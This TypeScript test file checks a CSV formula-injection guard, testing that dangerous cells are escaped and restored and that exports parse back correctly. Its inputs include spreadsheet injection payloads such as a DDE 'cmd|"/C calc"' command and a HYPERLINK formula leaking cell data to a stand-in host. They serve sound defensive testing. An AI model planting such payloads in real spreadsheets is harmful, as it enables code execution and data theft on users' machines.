import { csvText } from '@shared/lib/csv.ts'
import { guarded, unguarded } from '@shared/lib/formula.ts'
import fc from 'fast-check'
import Papa from 'papaparse'
import { expect, it } from 'vitest'

const SEED = 20_261_127
console.info(`formulas: seed ${SEED}`)

it.each([
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1)',
  '+A1',
  '-A1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '+49-30-1234',
  '+1*2',
  "'=1",
  '-1-1',
  '-Ana',
  '+USD',
])('%j is kept from being run, and comes back', text => {
  expect(guarded(text)).toBe(`'${text}`)
  expect(unguarded(guarded(text))).toBe(text)
})

it.each([
  '-12.50',
  '-1.234,56',
  '+3',
  '-3 USD',
  '-5 %',
  '-',
  '+49 30 123 45-67',
  '+1 (212) 555-0100',
  '+4930123',
  '-1E+5',
  'a=1',
  "O'Neill",
  "'s-Hertogenbosch",
  '',
])('%j stays as it is: a number, a telephone number, a text', text => {
  expect(guarded(text)).toBe(text)
  expect(unguarded(text)).toBe(text)
})

it('what is guarded begins with no sign a spreadsheet runs, and comes back as it was', () => {
  const text = fc.array(fc.oneof(fc.constantFrom(...'\'=+-@\t\r\n ,;"1A('), fc.string({ maxLength: 3 })), {
    maxLength: 6,
  })
  fc.assert(
    fc.property(text, pieces => {
      const whole = pieces.join('')
      const cell = guarded(whole)
      expect(unguarded(cell)).toBe(whole)
      // The slow way: nothing that begins with a sign but what only digits and their marks make up.
      if (/^[=@\t\r\n]/.test(cell)) throw new Error(JSON.stringify(cell))
      if (/^[+-]/.test(cell) && cell.length > 1)
        expect(cell).toMatch(/^[+-]\s?\d[\d\s.,'’()/+-]*([eE][+-]?\d+)?\s?([A-Z]{3}|%|€|\$|£)?$/)
    }),
    { seed: SEED, numRuns: 20_000 },
  )
})

it('a CSV of any texts reads back cell by cell in an independent reader', () => {
  const text = fc.string({ unit: 'binary', maxLength: 12 }).filter(one => !one.includes('\ufeff'))
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 6 }), rows => {
      const heads = [['a', 'b', 'c'], ...rows]
      const { data } = Papa.parse<string[]>(csvText(heads).slice(1, -2), { delimiter: ',', newline: '\r\n' })
      expect(data.map(row => row.map(unguarded))).toEqual(heads)
    }),
    { seed: SEED, numRuns: 2_000 },
  )
})
